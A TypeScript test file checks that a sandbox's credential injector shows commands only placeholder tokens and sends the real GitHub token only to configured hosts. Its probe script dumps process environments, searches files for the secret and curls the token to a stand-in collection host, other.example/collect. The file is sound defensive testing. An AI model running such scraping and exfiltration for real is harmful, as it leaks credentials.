// Invariant: with a credential injector, a sandboxed command sees only placeholders — in its env,
// every /proc/<pid>/environ and the files it can read — while `gh`-style curl and a plain `git push`
// over https (no setup inside: git's helper comes with the sandbox) put the real token on the wire to
// the configured hosts only, through the manager's own network proxy; a host variable holding the
// secret under any name stays out; and an injector that appears later reaches the next command.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CredentialInjector, findBwrap, SessionCa, type SandboxProfile } from '@conch/sandbox';
import { presented, readableFiles, startStandIn, type StandIn } from '@conch/test-support/credentials';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProcessManager } from './process-manager.js';
import { survivors } from './test-support/procs.js';

const bwrap = findBwrap();
const curl = spawnSync('curl', ['--version']).status === 0;
const SECRET = 'ghp_WiredThroughTheManager0123456789abcdEF';
// The secret in two pieces, so that a command line can search for it without holding it.
const [HALF_A, HALF_B] = [SECRET.slice(0, 20), SECRET.slice(20)];

// Under CI (.ci/run installs bubblewrap and curl) a missing tool fails these tests instead of skipping them.
describe.runIf((bwrap && curl) || process.env.CI)('credentials through the process manager', () => {
  let dir: string;
  let ws: string;
  let standIn: StandIn;
  let injector: CredentialInjector;
  let current: CredentialInjector | undefined;
  let manager: ProcessManager;
  const lookups: string[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'conch-cred-wire-'));
    ws = join(dir, 'ws');
    mkdirSync(ws);
    mkdirSync(join(dir, 'srv', 'owner'), { recursive: true });
    spawnSync('git', ['init', '-q', '--bare', join(dir, 'srv', 'owner', 'repo.git')]);
    const publicCa = await SessionCa.create({ commonName: 'stand-in public CA' });
    standIn = await startStandIn({ ca: publicCa, secret: SECRET, gitRoot: join(dir, 'srv') });
    const port = standIn.port;
    injector = await CredentialInjector.create(
      [
        {
          hosts: [`api.github.com:${port}`, `github.com:${port}`],
          value: SECRET,
          env: ['GH_TOKEN', 'GITHUB_TOKEN'],
        },
      ],
      { upstreamCa: publicCa.certificate },
    );
    // The host's own environment holds the secret, under a known name and under one nobody knows.
    process.env.CONCH_TEST_GH_TOKEN = SECRET;
    process.env.CONCH_TEST_OPAQUE = `prefix-${SECRET}`;
    manager = new ProcessManager({
      cwd: ws,
      killGraceMs: 300,
      drainMs: 300,
      network: {
        decide: async () => ({ allowed: true }),
        // Every name is the stand-in on this machine's loopback (no DNS here).
        lookup: async (host) => {
          lookups.push(host);
          return ['127.0.0.1'];
        },
      },
      credentials: () => current,
    });
  }, 60_000);

  afterAll(async () => {
    delete process.env.CONCH_TEST_GH_TOKEN;
    delete process.env.CONCH_TEST_OPAQUE;
    await manager?.dispose();
    if (manager) expect(survivors(manager.cookiePrefix)).toEqual([]);
    injector?.close();
    await standIn?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const sandbox = (): SandboxProfile => ({
    kind: 'workspace-write',
    writableRoots: [ws],
    readOnlyPaths: [],
    network: 'proxy',
  });
  const run = async (script: string) => {
    const r = await manager.spawn('bash', ['-c', script], {
      sandbox: sandbox(),
      timeoutMs: 120_000,
      env: {
        HOME: ws,
        HALF_A,
        HALF_B,
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_TERMINAL_PROMPT: '0',
        GIT_AUTHOR_NAME: 'Agent',
        GIT_AUTHOR_EMAIL: 'agent@example.com',
        GIT_COMMITTER_NAME: 'Agent',
        GIT_COMMITTER_EMAIL: 'agent@example.com',
      },
    }).result;
    return { ...r, out: r.stdout.head + r.stderr.head };
  };

  it('a sandbox started before the injector gets it at its next command (no placeholder before)', async () => {
    current = undefined;
    const before = await run('echo "gh=${GH_TOKEN-unset} ca=${SSL_CERT_FILE-unset}"');
    expect(before.exitCode).toBe(0);
    expect(before.out).toContain('gh=unset ca=');
    expect(before.out).not.toContain('/run/conch/ca-bundle.crt');
    current = injector;
    const after = await run(
      'echo "gh=${GH_TOKEN-unset} ca=${SSL_CERT_FILE-unset}"; test -r "$SSL_CERT_FILE" && echo readable',
    );
    expect(after.out).toMatch(/gh=conch-placeholder-[0-9a-f]{32} ca=\/run\/conch\/ca-bundle\.crt/);
    expect(after.out).toContain('readable');
  }, 120_000);

  it('gh-style curl and git push carry the real token on the wire; nothing inside shows it', async () => {
    current = injector;
    const port = standIn.port;
    const seenBefore = standIn.seen.length;
    const script = [
      'echo "== env"; env',
      'echo "== proc"; for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; tr "\\0" " " < $p/cmdline; echo; done 2>/dev/null',
      `echo "== files"; ${readableFiles('/run /tmp "$HOME" /etc')} | xargs -0r grep -lsF -e "$HALF_A$HALF_B"; echo "files end"`,
      `echo "== gh"; curl -sS -H "Authorization: token $GH_TOKEN" https://api.github.com:${port}/user`,
      // Another host: tunnelled untouched (its certificate is the stand-in's own, hence -k).
      `echo "== other"; curl -sSk -H "Authorization: token $GH_TOKEN" https://other.example:${port}/collect`,
      'echo "== git"; git init -q -b main repo && cd repo && echo hi > f && git add f && git commit -q -m one',
      `git push https://github.com:${port}/owner/repo.git main 2>&1; echo "git push: $?"`,
    ].join('\n');
    const r = await run(script);
    expect(r.exitCode, r.out).toBe(0);
    expect(r.out).not.toContain(SECRET);
    const section = (name: string) => r.out.split(`== ${name}\n`)[1]!.split('\n== ')[0]!;
    const placeholder = /GH_TOKEN=(conch-placeholder-[0-9a-f]{32})/.exec(section('env'))?.[1];
    expect(placeholder).toBeDefined();
    expect(section('env')).toContain(`GITHUB_TOKEN=${placeholder}`);
    expect(section('env')).not.toMatch(/CONCH_TEST_GH_TOKEN|CONCH_TEST_OPAQUE/);
    expect(section('proc')).toContain(placeholder);
    expect(section('files')).toBe('files end');
    expect(section('gh')).toBe('ok 0');
    expect(r.out).toContain('git push: 0');
    const seen = standIn.seen.slice(seenBefore);
    expect(seen.find((s) => s.url === '/user')).toMatchObject({
      sni: 'api.github.com',
      authorization: [`token ${SECRET}`],
    });
    expect(seen.find((s) => s.url === '/collect')).toMatchObject({
      sni: 'other.example',
      authorization: [`token ${placeholder}`],
    });
    const pushes = seen.filter((s) => s.url.includes('/owner/repo.git/') && s.authorization.length);
    expect(pushes.length).toBeGreaterThan(0);
    for (const p of pushes) expect(presented(p.authorization[0]!)).toEqual(['x-access-token', SECRET]);
    // The pushed commit is on the server.
    const log = spawnSync('git', [
      '--git-dir',
      join(dir, 'srv', 'owner', 'repo.git'),
      'log',
      '--format=%s',
      'main',
    ]);
    expect(log.stdout.toString().trim()).toBe('one');
    // The names were looked up by the proxy, outside the sandbox.
    expect(lookups).toEqual(expect.arrayContaining(['api.github.com', 'github.com', 'other.example']));
  }, 120_000);
});
